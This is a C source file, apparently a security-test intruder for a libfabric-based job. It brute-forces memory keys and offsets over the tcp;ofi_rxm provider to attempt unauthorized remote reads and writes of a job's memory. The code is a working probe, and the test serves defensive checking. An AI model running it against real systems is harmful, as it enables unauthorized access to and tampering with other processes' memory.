/* An intruder on the public libfabric API (tests/test_ofi_security.py): it knows only a PE's
 * listening host:port (from `ss -ltn`), not the job's memory keys. For each listener it opens
 * an FI_EP_RDM endpoint of provider "tcp;ofi_rxm" with mr_mode 0, inserts the listener as a peer
 * and tries fi_read and fi_write of 8 bytes at offsets 0, 8, ..., 64 with keys 0..16, each
 * attempt bounded (300 ms), all of it bounded by a total deadline. Writes ask for
 * FI_DELIVERY_COMPLETE, so a successful one is one the target applied.
 *
 *   ofi_rma <total seconds> <host:port>...
 *
 * Prints one line per successful operation ("READ OK ..." / "WRITE OK ...") and a summary line
 * "intruder: reads_ok=N writes_ok=M tried=T completed_errors=E timeouts=U"; exit status 0 unless
 * it could not run at all (2). Writes put the pattern 0x4141414141414141 at offset 8 and write
 * back what a successful read returned elsewhere (so a vulnerable job is hit where the test
 * looks, not wrecked). */
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define PATTERN 0x4141414141414141ULL

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec * 1e-9;
}

struct fab {
    struct fi_info *info;
    struct fid_fabric *fabric;
    struct fid_domain *domain;
    struct fid_av *av;
    struct fid_cq *cq;
    struct fid_ep *ep;
};

static int open_fab(struct fab *f) {
    struct fi_info *hints = fi_allocinfo();
    hints->ep_attr->type = FI_EP_RDM;
    hints->caps = FI_RMA | FI_READ | FI_WRITE;
    hints->mode = FI_CONTEXT | FI_CONTEXT2;
    hints->domain_attr->mr_mode = 0;
    hints->addr_format = FI_SOCKADDR_IN;
    hints->fabric_attr->prov_name = strdup("tcp;ofi_rxm");
    int rc = fi_getinfo(FI_VERSION(1, 9), NULL, NULL, 0, hints, &f->info);
    fi_freeinfo(hints);
    if (rc) {
        fprintf(stderr, "fi_getinfo: %s\n", fi_strerror(-rc));
        return rc;
    }
    if ((rc = fi_fabric(f->info->fabric_attr, &f->fabric, NULL)) ||
        (rc = fi_domain(f->fabric, f->info, &f->domain, NULL))) {
        fprintf(stderr, "opening the domain: %s\n", fi_strerror(-rc));
        return rc;
    }
    return 0;
}

/* A fresh endpoint (with its AV and CQ) connected to host:port: the target's tcp provider
 * drops a connection on which an invalid key arrived, so every attempt gets its own. */
static int open_ep(struct fab *f, const char *host, const char *port, fi_addr_t *peer) {
    struct fi_av_attr ava = {.type = FI_AV_TABLE, .count = 4};
    struct fi_cq_attr cqa = {.format = FI_CQ_FORMAT_CONTEXT, .wait_obj = FI_WAIT_NONE};
    int rc;
    f->av = NULL;
    f->cq = NULL;
    f->ep = NULL;
    if ((rc = fi_av_open(f->domain, &ava, &f->av, NULL)) ||
        (rc = fi_cq_open(f->domain, &cqa, &f->cq, NULL)) ||
        (rc = fi_endpoint(f->domain, f->info, &f->ep, NULL)) ||
        (rc = fi_ep_bind(f->ep, &f->av->fid, 0)) ||
        (rc = fi_ep_bind(f->ep, &f->cq->fid, FI_TRANSMIT | FI_RECV)) ||
        (rc = fi_enable(f->ep))) {
        fprintf(stderr, "opening the endpoint: %s\n", fi_strerror(-rc));
        return rc ? rc : -1;
    }
    rc = fi_av_insertsvc(f->av, host, port, peer, 0, NULL);
    if (rc != 1) {
        fprintf(stderr, "%s:%s: fi_av_insertsvc: %d\n", host, port, rc);
        return -1;
    }
    return 0;
}

static void close_ep(struct fab *f) {
    if (f->ep)
        fi_close(&f->ep->fid);
    if (f->cq)
        fi_close(&f->cq->fid);
    if (f->av)
        fi_close(&f->av->fid);
}

/* 1: completed well, 0: completed with an error, -1: no completion in time (or not posted). */
static int wait_done(struct fab *f, void *ctx, double limit) {
    double t0 = now();
    while (now() - t0 < limit) {
        struct fi_cq_entry ent;
        ssize_t n = fi_cq_read(f->cq, &ent, 1);
        if (n == 1 && ent.op_context == ctx)
            return 1;
        if (n == -FI_EAVAIL) {
            struct fi_cq_err_entry e;
            memset(&e, 0, sizeof e);
            fi_cq_readerr(f->cq, &e, 0);
            if (getenv("OFI_RMA_VERBOSE"))
                fprintf(stderr, "error completion: %s (prov %d)\n", fi_strerror(e.err),
                        e.prov_errno);
            if (e.op_context == ctx)
                return 0;
        }
    }
    return -1;
}

int main(int argc, char **argv) {
    if (argc < 3) {
        fprintf(stderr, "usage: %s <total seconds> <host:port>...\n", argv[0]);
        return 2;
    }
    double deadline = now() + atof(argv[1]);
    struct fab f;
    memset(&f, 0, sizeof f);
    if (open_fab(&f))
        return 2;
    int reads_ok = 0, writes_ok = 0, tried = 0, errors = 0, timeouts = 0;
    for (int a = 2; a < argc && now() < deadline; a++) {
        char host[256];
        snprintf(host, sizeof host, "%s", argv[a]);
        char *colon = strrchr(host, ':');
        if (!colon)
            continue;
        *colon = 0;
        const char *port = colon + 1;
        fi_addr_t peer = FI_ADDR_NOTAVAIL;
        int silent = 0; /* a listener that never answers is not an ofi endpoint: skip it */
        for (uint64_t key = 0; key <= 16 && now() < deadline && silent < 2; key++) {
            for (uint64_t off = 0; off <= 64 && now() < deadline && silent < 2; off += 8) {
                for (int w = 0; w < 2; w++) {
                    /* never freed: a timed-out operation may still complete into them */
                    uint64_t *buf = calloc(1, 64);
                    struct fi_context2 *ctx = calloc(1, sizeof *ctx);
                    static uint64_t last_read;
                    static int last_ok;
                    buf[0] = (off == 8 || !last_ok) ? PATTERN : last_read;
                    if (open_ep(&f, host, port, &peer))
                        return 2;
                    ssize_t p;
                    double t0 = now();
                    do {
                        /* a write counts only once delivered at the target */
                        struct iovec iov = {.iov_base = buf, .iov_len = 8};
                        struct fi_rma_iov rma = {.addr = off, .len = 8, .key = key};
                        struct fi_msg_rma msg = {.msg_iov = &iov, .iov_count = 1,
                                                 .addr = peer, .rma_iov = &rma,
                                                 .rma_iov_count = 1, .context = ctx};
                        p = w ? fi_writemsg(f.ep, &msg, FI_DELIVERY_COMPLETE | FI_COMPLETION)
                              : fi_read(f.ep, buf, 8, NULL, peer, off, key, ctx);
                        if (p == -FI_EAGAIN)
                            fi_cq_read(f.cq, NULL, 0);
                    } while (p == -FI_EAGAIN && now() - t0 < 0.3);
                    tried++;
                    int r = p ? -1 : wait_done(&f, ctx, 0.3);
                    if (r == 1) {
                        silent = 0;
                        if (w) {
                            writes_ok++;
                            printf("WRITE OK %s:%s key=%llu off=%llu value=%#llx\n", host, port,
                                   (unsigned long long)key, (unsigned long long)off,
                                   (unsigned long long)buf[0]);
                        } else {
                            reads_ok++;
                            last_read = buf[0];
                            printf("READ OK %s:%s key=%llu off=%llu value=%#llx\n", host, port,
                                   (unsigned long long)key, (unsigned long long)off,
                                   (unsigned long long)buf[0]);
                        }
                    } else if (r == 0) {
                        silent = 0;
                        errors++;
                    } else {
                        silent++;
                        timeouts++;
                    }
                    if (!w)
                        last_ok = r == 1;
                    if (r >= 0) /* else an operation may still be in flight: leave it open */
                        close_ep(&f);
                    fflush(stdout);
                }
            }
        }
        printf("listener %s:%s done (%s)\n", host, port, silent >= 2 ? "no answer" : "answered");
    }
    printf("intruder: reads_ok=%d writes_ok=%d tried=%d completed_errors=%d timeouts=%d\n",
           reads_ok, writes_ok, tried, errors, timeouts);
    return 0;
}
